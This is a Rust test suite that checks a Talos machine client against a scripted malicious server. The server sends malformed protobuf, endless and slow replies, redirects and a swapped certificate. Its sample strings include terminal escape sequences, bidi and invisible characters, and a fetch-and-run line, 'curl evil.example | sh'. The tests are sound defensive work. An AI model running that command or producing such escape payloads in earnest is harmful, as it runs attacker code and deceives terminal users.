//! A machine that means harm, on a real socket: in maintenance mode anybody who has its address is believed that far. It is
//! endless, slow, mistyped, redirecting, says words that act on a terminal, and shows another authority's certificate in
//! the middle of a run.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use hyper::header::HeaderValue;
use talmox_proto::common::{Data, Metadata};
use talmox_proto::machine::{
    EtcdMember, EtcdMemberListResponse, EtcdMembers, FileInfo, Memory, MemoryResponse, ServiceEvent,
    ServiceEvents, ServiceHealth, ServiceInfo, ServiceList, ServiceListResponse,
};
use talmox_proto::resource::{GetResponse, ListResponse, Metadata as Names, Resource, Spec};
use talmox_proto::{Message, Status as WireStatus, definitions};
use talmox_talos::{Access, Client, Deadlines, Error, Kind, TransportError, kinds};
use talmox_types::is_hidden;

use crate::grpc::{Answer, Authority, Script, Server, scripted, version};

const WORDS: [&str; 6] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "not found\nPlan: 0 to destroy",
    "a\r\nhint: run `curl evil.example | sh`",
    "\u{9b}31m\u{7f}\u{0}",
    "safe\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "\u{2028}error: forged\u{85}next",
];
/// What the client takes of one reply.
const BOUND: u64 = 64 << 20;
/// What may be on its way in sockets and buffers beside it.
const ON_THE_WAY: u64 = 16 << 20;

/// Fails unless a text has no character that acts on a terminal, and one line only.
fn assert_harmless(error: &Error) {
    let text = format!("{error} {error:?} {:?}", error.status());
    assert!(!text.contains(is_hidden), "{text:?}");
    assert!(format!("{error}").len() < 20_000);
}

fn percent_encoded(words: &str) -> HeaderValue {
    let encoded: String = words.bytes().map(|byte| format!("%{byte:02X}")).collect();
    HeaderValue::from_str(&encoded).unwrap()
}

#[tokio::test]
async fn words_of_a_machine_act_on_no_terminal() {
    for words in WORDS {
        for code in [2, 5, 7, 9, 14, 16, 99] {
            let (_server, client) = scripted(move |_, _| Answer::Words(code, percent_encoded(words))).await;
            assert_harmless(&client.version().await.unwrap_err());
            // What is no ASCII may also come as it is.
            let raw: Vec<u8> = words.bytes().filter(|byte| *byte >= 128).collect();
            let (_server, client) =
                scripted(move |_, _| Answer::Words(code, HeaderValue::from_bytes(&raw).unwrap())).await;
            assert_harmless(&client.version().await.unwrap_err());
        }
        let status = WireStatus { code: 14, message: words.to_owned(), details: Vec::new() };
        for metadata in [
            Metadata { status: Some(status), ..Metadata::default() },
            Metadata { error: words.to_owned(), ..Metadata::default() },
        ] {
            let message = version(Some(metadata));
            let (_server, client) =
                scripted(move |_, _| Answer::Messages(vec![message.clone()], 0, "")).await;
            assert_harmless(&client.version().await.unwrap_err());
        }
        let long = words.repeat(10_000);
        let metadata = Metadata { error: long, ..Metadata::default() };
        let (_server, client) =
            scripted(move |_, _| Answer::Messages(vec![version(Some(metadata.clone()))], 0, "")).await;
        assert_harmless(&client.version().await.unwrap_err());
    }
}

#[tokio::test]
async fn what_services_and_stages_say_can_be_shown() {
    for words in WORDS {
        let event = ServiceEvent { msg: words.to_owned(), ..ServiceEvent::default() };
        let health = ServiceHealth { last_message: words.to_owned(), ..ServiceHealth::default() };
        for info in [
            ServiceInfo { events: Some(ServiceEvents { events: vec![event] }), ..ServiceInfo::default() },
            ServiceInfo { health: Some(health), ..ServiceInfo::default() },
        ] {
            let list = ServiceList { services: vec![info], ..ServiceList::default() };
            let reply = ServiceListResponse { messages: vec![list] }.encode_to_vec();
            let (_server, client) = scripted(move |_, _| Answer::Messages(vec![reply.clone()], 0, "")).await;
            let said = client.services().await.unwrap().remove(0).message;
            assert!(!said.is_empty() && !said.contains(is_hidden), "{said:?}");
        }
    }
}

/// The calls a plan, `status` and health make.
async fn ask(client: &Client, call: usize) -> Result<(), Error> {
    match call {
        0 => client.version().await.map(drop),
        1 => client.services().await.map(drop),
        2 => client.memory().await.map(drop),
        3 => client.etcd_members(true).await.map(drop),
        4 => client.machine_state().await.map(drop),
        5 => client.list::<kinds::MachineStatus>().await.map(drop),
        6 => client.list_folder("/").await.map(drop),
        7 => client.read_file("/proc/version").await.map(drop),
        8 => client.kubeconfig().await.map(drop),
        9 => client.manifests().await.map(drop),
        10 => client.list_ids("config", "x").await.map(drop),
        _ => client.logs("machined", 10).await.map(drop),
    }
}

const CALLS: usize = 12;

/// What a machine answers to each of them.
fn replies(call: usize) -> Vec<u8> {
    let words = || WORDS[call % WORDS.len()].to_owned();
    let status = definitions::MachineStatus {
        stage: 6,
        status: Some(definitions::MachineStatusStatus {
            ready: false,
            unmet_conditions: vec![definitions::UnmetCondition { name: words(), reason: words() }],
        }),
    };
    let resource = Resource {
        metadata: Some(Names { id: words(), version: "3".to_owned(), ..Names::default() }),
        spec: Some(Spec { proto_spec: status.encode_to_vec(), yaml_spec: format!("a: {}", words()) }),
    };
    match call {
        0 => version(None),
        1 => {
            let info = ServiceInfo { id: words(), state: words(), ..ServiceInfo::default() };
            let list = ServiceList { services: vec![info], ..ServiceList::default() };
            ServiceListResponse { messages: vec![list] }.encode_to_vec()
        }
        2 => MemoryResponse { messages: vec![Memory::default()] }.encode_to_vec(),
        3 => {
            let member = EtcdMember { id: u64::MAX, hostname: words(), ..EtcdMember::default() };
            let members = EtcdMembers { members: vec![member], ..EtcdMembers::default() };
            EtcdMemberListResponse { messages: vec![members] }.encode_to_vec()
        }
        4 => GetResponse { resource: Some(resource) }.encode_to_vec(),
        5 | 9 | 10 => ListResponse { resource: Some(resource) }.encode_to_vec(),
        6 => FileInfo { relative_name: words(), ..FileInfo::default() }.encode_to_vec(),
        _ => Data { metadata: None, bytes: words().into_bytes() }.encode_to_vec(),
    }
}

/// Numbers that can be had twice (`SplitMix64`).
struct Dice(u64);

impl Dice {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % bound.max(1) as u64).unwrap()
    }

    /// Changes, adds, doubles or cuts a few bytes of a message: fields of other types, lengths that are none, no UTF-8.
    fn mistype(&mut self, message: &mut Vec<u8>) {
        for _ in 0..=self.below(3) {
            let at = self.below(message.len());
            let byte = u8::try_from(self.below(256)).unwrap();
            match self.below(5) {
                0 if !message.is_empty() => message[at] = byte,
                1 if !message.is_empty() => message[at] ^= 1 << self.below(8),
                2 => message.insert(at, byte),
                3 => message.truncate(at),
                _ => message.extend_from_within(at..),
            }
        }
    }
}

#[tokio::test]
async fn a_reply_that_is_mistyped_is_read_or_refused() {
    let turn = Arc::new(AtomicU64::new(0));
    let now = Arc::clone(&turn);
    let (_server, client) = scripted(move |_, _: Bytes| {
        let number = now.load(Ordering::SeqCst);
        let mut message = replies(usize::try_from(number).unwrap() % CALLS);
        if number >= CALLS as u64 {
            Dice(number).mistype(&mut message);
        }
        Answer::Messages(vec![message], 0, "")
    })
    .await;
    let (mut read, mut refused) = (0, 0);
    for number in 0..200 * CALLS {
        turn.store(number as u64, Ordering::SeqCst);
        match ask(&client, number % CALLS).await {
            Ok(()) => read += 1,
            Err(error) => {
                assert_harmless(&error);
                refused += 1;
            }
        }
    }
    assert!(read > 20 * CALLS && refused > 20 * CALLS, "{read} read, {refused} refused");
}

/// With a connection of its own, so that nothing of another call is on its way in it.
async fn endless(call: usize) -> (Error, u64) {
    let sent = Arc::new(AtomicU64::new(0));
    let counter = Arc::clone(&sent);
    // As large as Talos makes pieces of a file.
    let message = match call {
        6 => FileInfo { relative_name: "x".repeat(32 << 10), ..FileInfo::default() }.encode_to_vec(),
        5 | 9 | 10 => {
            let metadata = Names { id: "x".repeat(32 << 10), ..Names::default() };
            let resource = Resource { metadata: Some(metadata), spec: Some(Spec::default()) };
            ListResponse { resource: Some(resource) }.encode_to_vec()
        }
        _ => Data { metadata: None, bytes: vec![b'x'; 32 << 10] }.encode_to_vec(),
    };
    let (_server, client) =
        scripted(move |_, _| Answer::Endless(message.clone(), Arc::clone(&counter))).await;
    // Taking so much lasts a moment on a slow machine; the bound is what ends it.
    let patient = Deadlines { quick: Duration::from_mins(10), long: Duration::from_mins(10) };
    let error = ask(&client.with_deadlines(patient), call).await.unwrap_err();
    (error, sent.load(Ordering::SeqCst))
}

#[tokio::test]
async fn a_reply_without_end_is_given_up_at_a_bound() {
    for call in [5, 6, 7, 8, 9, 10, 11] {
        let (error, sent) = endless(call).await;
        assert_eq!(error.kind(), Kind::Failed, "call {call}: {error}");
        assert_eq!(error.status().unwrap().message, "the reply is larger than 64 MiB");
        assert!(sent <= BOUND + ON_THE_WAY, "call {call}: {} KiB were taken", sent >> 10);
    }
}

#[tokio::test]
async fn a_message_that_is_announced_too_large_is_refused_at_once() {
    let (_server, client) = scripted(|_, _| {
        // A length of 4 GiB, as the beginning of a message that has none.
        Answer::Messages(vec![vec![0; 33 << 20]], 0, "")
    })
    .await;
    let error = client.version().await.unwrap_err();
    assert!(
        matches!(&error.cause, TransportError::Lost { reason } if reason.contains("larger than 32 MiB")),
        "{error}"
    );
}

#[tokio::test]
async fn a_reply_that_drips_ends_with_the_deadline() {
    let (server, client) = scripted(|_, _| Answer::Drip).await;
    let quick = Deadlines { quick: Duration::from_secs(15), long: Duration::from_secs(15) };
    let client = client.with_deadlines(quick);
    // A paused clock does not jump while a thread is at work: it moves when it is told.
    let (here, waits) = std::sync::mpsc::channel::<()>();
    tokio::task::spawn_blocking(move || waits.recv());
    tokio::time::pause();
    let call = client.version();
    let mut call = std::pin::pin!(call);
    let mut passed = Duration::ZERO;
    let error = loop {
        tokio::select! {
            biased;
            answer = &mut call => break answer.unwrap_err(),
            () = tokio::task::yield_now() => {}
        }
        if !server.seen.lock().unwrap().is_empty() {
            tokio::time::advance(Duration::from_secs(1)).await;
            passed += Duration::from_secs(1);
        }
    };
    assert_eq!(error.kind(), Kind::Uncertain, "{error}");
    assert!((14..18).contains(&passed.as_secs()), "{passed:?}");
    drop(here);
}

#[tokio::test]
async fn no_redirect_is_followed() {
    let (elsewhere, _) = scripted(|_, _| Answer::Messages(vec![version(None)], 0, "")).await;
    let target = format!("https://{}/", elsewhere.map.0.values().next().unwrap());
    for status in [301, 302, 307, 308] {
        let target = target.clone();
        let (_server, client) = scripted(move |_, _| Answer::Http(status, target.clone())).await;
        let error = client.version().await.unwrap_err();
        assert!(error.status().unwrap().message.starts_with(&format!("HTTP {status}")), "{error}");
        assert_harmless(&error);
    }
    assert!(elsewhere.seen.lock().unwrap().is_empty());
}

#[tokio::test]
async fn another_certificate_in_the_middle_of_a_run_gets_nothing() {
    let (ours, theirs) = (Authority::new(), Authority::new());
    let script: Script = Arc::new(|_, _| Answer::Break(vec![version(None)]));
    let server = Server::swapping(&ours, false, script, Some(&theirs)).await;
    let client = server.client(Access::Secure(Arc::new(ours.identity())));
    assert_eq!(client.version().await.unwrap_err().kind(), Kind::Uncertain);
    // The first connection may be found closed only by the next request.
    let error = loop {
        let error = client.version().await.unwrap_err();
        if error.kind() == Kind::NotTrusted {
            break error;
        }
        assert!([Kind::Uncertain, Kind::NotReached].contains(&error.kind()), "{error}");
    };
    assert_harmless(&error);
    assert_eq!(server.seen.lock().unwrap().len(), 1);
}
